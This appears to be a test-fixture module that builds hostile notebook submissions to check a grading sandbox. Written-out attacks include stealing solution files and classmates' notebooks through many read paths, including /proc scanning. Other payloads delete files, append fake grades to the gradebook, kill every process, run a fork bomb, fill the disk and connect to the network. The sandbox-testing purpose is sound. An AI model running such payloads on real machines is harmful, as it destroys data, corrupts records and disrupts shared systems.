"""Hostile submissions of assignment 01: each tries one class of attack on the grader (issue 22).

Every attack's answers are wrong, except that each answer cell first looks for a stolen copy of
itself (``builtins.STOLEN``, filled by an attack that managed to read a solution, a classmate's
notebook or the reference run's job): an attack that works therefore *earns points*, and one
that fails earns none. The attacks get the real paths they aim at (:func:`attacks` ``targets``:
the repository, the submissions, the gradebook, a canary file, a local TCP port), as a student
who read the grader's command line would. ``tests/test_grading_sandbox.py`` grades them in the
sandbox beside honest students, and runs the harmless ones without it to show they work there.
"""

from __future__ import annotations

import copy
import json

import nbformat

from make_grading_corpus import ALL_WRONG, answered, cell  # noqa: F401  (tests/ is on sys.path)

MARKER = "vgan-attack-survivor"  # in the command line of every process an attack leaves behind

STEAL = r'''
import builtins, json, os
builtins.STOLEN = getattr(builtins, "STOLEN", {})
def steal(text):
    """Keep every answer cell of a notebook (a solution, a classmate's) or of a grading job."""
    if isinstance(text, bytes):
        text = text.decode("utf-8", "replace")
    text = text[text.find("{"):] if "{" in text else text
    try:
        data = json.loads(text)
    except Exception:
        return
    for c in data.get("cells", []) if isinstance(data, dict) else []:
        source = "".join(c.get("source", "")) if isinstance(c.get("source"), list) else c.get("source", "")
        gid = c.get("metadata", {}).get("nbgrader", {}).get("grade_id") or (c.get("part") if c.get("role") == "answer" else None)
        if gid in ("d_loss", "g_loss", "train_step", "up_block", "modes") and "NotImplementedError" not in source:
            builtins.STOLEN[gid] = source.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", "")
def attempt(what, action):
    try:
        return action()
    except BaseException as error:
        print("refused:", what, type(error).__name__, str(error)[:80], flush=True)
def read(what, action):
    """Try to read something that holds answers; say so and keep them if it worked."""
    got = attempt(what, action) or b""
    text = got.decode("utf-8", "replace") if isinstance(got, bytes) else str(got)
    if "def discriminator_loss" in text:
        print("stole:", what, flush=True)
        steal(text)
'''

STEALS_SOLUTION = r'''
import ctypes, glob, multiprocessing, numpy, pathlib, subprocess, sys, torch, zlib, _posixsubprocess
import vgan_course
package_root = pathlib.Path(vgan_course.__file__).resolve().parents[1]
candidates = [T["solution"], str(package_root / "solutions" / "01_gan_basics.ipynb"), T["corpus_correct"],
              str(package_root / "tests" / "grading_corpus" / "01" / "correct.ipynb")]
for path in candidates:
    read("torch.from_file " + path, lambda: bytes(torch.from_file(path, size=os.path.getsize(path), dtype=torch.uint8).tolist()))
    read("numpy.fromfile " + path, lambda: numpy.fromfile(path, dtype=numpy.uint8).tobytes())
    def libc_read():
        libc = ctypes.CDLL(None)
        fd = libc.open(path.encode(), 0)
        if fd < 0:
            raise OSError("libc open failed")
        buffer = ctypes.create_string_buffer(1 << 20)
        size = libc.read(fd, buffer, 1 << 20)
        return buffer.raw[:size]
    read("libc read " + path, libc_read)
    def relative_with_dir_fd():
        parent = os.open(os.path.dirname(os.path.dirname(path)), os.O_RDONLY)
        fd = os.open(os.path.join(os.path.basename(os.path.dirname(path)), os.path.basename(path)), os.O_RDONLY, dir_fd=parent)
        return os.read(fd, 1 << 20)
    read("os.open with dir_fd " + path, relative_with_dir_fd)
    def fork_exec_cat():
        out_read, out_write = os.pipe()
        err_read, err_write = os.pipe()
        _posixsubprocess.fork_exec(["/bin/cat", path], [b"/bin/cat"], True, (err_write,), None, None, -1, -1, -1,
                                   out_write, -1, -1, err_read, err_write, False, False, -1, None, None, None, -1, None, False)
        os.close(out_write)
        os.close(err_write)
        chunks = []
        while chunk := os.read(out_read, 1 << 16):
            chunks.append(chunk)
        return b"".join(chunks)
    read("_posixsubprocess.fork_exec " + path, fork_exec_cat)
    read("os.system " + path, lambda: os.system(f"cat {path} > stolen.txt 2>/dev/null") == 0 and open("stolen.txt").read())
    with multiprocessing.get_context("spawn").Pool(1) as pool:
        read("multiprocessing spawn " + path, lambda: pool.apply(pathlib.Path(path).read_text))
for objects in [T["git_objects"], str(package_root / ".git" / "objects")]:
    for blob in (attempt("walk .git " + objects, lambda: glob.glob(objects + "/*/*")) or [])[:3000]:
        read("zlib " + blob, lambda: zlib.decompress(open(blob, "rb").read()))
read("git show", lambda: subprocess.run(["git", "-C", T["repo"], "show", "HEAD:solutions/01_gan_basics.ipynb"],
                                        capture_output=True).stdout)
for job in attempt("the reference run's job", lambda: glob.glob("/tmp/vgan-*/**/job.json", recursive=True)) or []:
    read("job " + job, lambda: open(job).read())
'''

COPIES_CLASSMATE = r'''
import glob
for path in attempt("list the submissions", lambda: glob.glob(T["submissions"] + "/*honest*.ipynb")) or []:
    read("classmate " + path, lambda: open(path).read())
parent = os.getppid()
for name in ("cwd/solutions/01_gan_basics.ipynb", "root" + T["solution"]):
    read(f"/proc/parent/{name}", lambda: open(f"/proc/{parent}/{name}", "rb").read())
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid() and T.get("scan_proc", True)]:
    for fd in attempt(f"/proc/{pid}/fd", lambda: os.listdir(f"/proc/{pid}/fd")) or []:
        target = attempt("readlink", lambda: os.readlink(f"/proc/{pid}/fd/{fd}")) or ""
        if target.endswith(".ipynb") or target.endswith("job.json"):
            read(f"/proc/{pid}/fd/{fd}", lambda: open(f"/proc/{pid}/fd/{fd}").read())
    if attempt(f"/proc/{pid}/mem", lambda: open(f"/proc/{pid}/mem", "rb").close() or True):
        print("opened: /proc/other/mem", flush=True)
'''

WRITES_AND_DELETES = r'''
import shutil, sqlite3, cv2, av, numpy, torch
def wrote(what, path, action):
    attempt(what, action)
    if os.path.exists(path):
        print("wrote:", what, flush=True)
for target in T["write_targets"]:
    wrote("open " + target, target + ".txt", lambda: open(target + ".txt", "w").write("alice,11"))
    wrote("torch.save " + target, target + ".pt", lambda: torch.save(torch.ones(1), target + ".pt"))
    wrote("cv2.imwrite " + target, target + ".png", lambda: cv2.imwrite(target + ".png", numpy.zeros((4, 4, 3), numpy.uint8)))
    def pyav():
        with av.open(target + ".mp4", "w") as container:
            stream = container.add_stream("mpeg4", rate=1)
            stream.width, stream.height, stream.pix_fmt = 16, 16, "yuv420p"
            frame = av.VideoFrame.from_ndarray(numpy.zeros((16, 16, 3), numpy.uint8), format="rgb24")
            for packet in [*stream.encode(frame), *stream.encode()]:
                container.mux(packet)
    wrote("PyAV " + target, target + ".mp4", pyav)
    wrote("sqlite3 " + target, target + ".db", lambda: sqlite3.connect(target + ".db").execute("create table t (x)"))
    wrote("mkfifo " + target, target + ".fifo", lambda: os.mkfifo(target + ".fifo"))
seen = os.path.exists(T["canary"])
attempt("truncate the canary", lambda: os.truncate(T["canary"], 0))
attempt("delete the canary", lambda: os.remove(T["canary"]))
attempt("delete the submissions", lambda: shutil.rmtree(T["submissions"]))
if seen and not os.path.exists(T["canary"]):
    print("deleted: the canary", flush=True)
'''

DETACHED_EDITS_CSV = r'''
if os.fork() == 0:  # child: a new session, then a grandchild that outlives it, rewriting the gradebook
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["sh", "-c", f"while :; do echo 'detached,11,11,11' >> {T['csv']}; sleep 0.2; done; : {T['marker']}"])
    os._exit(0)
'''

KILLS_EVERYONE = r'''
import signal
attempt("kill -1", lambda: os.kill(-1, signal.SIGKILL))
attempt("kill the parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
for pid in range(1, 4 * 32768):
    try:
        if pid != os.getpid():
            os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
'''

FORK_BOMB = r'''
children = 0
try:
    while children < 100_000:
        if os.fork() == 0:
            os.execv("/bin/sh", ["sh", "-c", f"sleep 600; : {T['marker']}"])
        children += 1
except OSError as error:
    print("forks stopped after", children, error)
'''

FILLS_DISK = r'''
for folder in (".", "/tmp", "/dev/shm", os.path.expanduser("~")):
    for i in range(100_000):
        try:
            with open(os.path.join(folder, f"fill{i}"), "wb") as f:
                f.write(b"x" * 2**20)
        except OSError as error:
            print(folder, "full after", i, "MB:", error)
            break
attempt("one huge file", lambda: open("huge", "wb").write(b"x" * 2**30))
'''

NETWORK = r'''
import socket
def send():
    with socket.create_connection(("127.0.0.1", T["port"]), timeout=2) as connection:
        connection.sendall(b"stolen")
attempt("connect to the grader's machine", send)
attempt("connect to the internet", lambda: socket.create_connection(("1.1.1.1", 53), timeout=2))
'''

ATTACKS = {"steals_solution": STEALS_SOLUTION, "copies_classmate": COPIES_CLASSMATE,
           "writes_and_deletes": WRITES_AND_DELETES, "detached_edits_csv": DETACHED_EDITS_CSV,
           "kills_everyone": KILLS_EVERYONE, "fork_bomb": FORK_BOMB, "fills_disk": FILLS_DISK, "network": NETWORK}


def attack_script(name: str, targets: dict) -> str:
    """Attack ``name`` as Python source, aimed at ``targets``; it prints ``stole:``, ``wrote:``,
    ``deleted:`` or ``opened:`` for each thing it managed to do."""
    return f"{STEAL}\nT = json.loads({json.dumps(targets)!r})\n{ATTACKS[name]}"


def attack_notebook(name: str, targets: dict) -> nbformat.NotebookNode:
    """Assignment 01 with wrong answers (unless stolen) and attack ``name`` in its first answer cell."""
    nb = copy.deepcopy(answered())
    for gid, wrong in ALL_WRONG.items():
        cell(nb, gid).source = f"import builtins\nexec(getattr(builtins, 'STOLEN', {{}}).get({gid!r}, {wrong!r}))"
    first = cell(nb, "d_loss")
    first.source = attack_script(name, targets) + "\n" + first.source
    return nb


def attacks(targets: dict) -> dict[str, nbformat.NotebookNode]:
    """Every attack, aimed at ``targets`` (keys: solution, corpus_correct, git_objects, repo,
    submissions, csv, canary, write_targets, port, marker; scan_proc=False spares the host's
    processes when an attack runs outside the sandbox as a control)."""
    return {name: attack_notebook(name, targets) for name in ATTACKS}
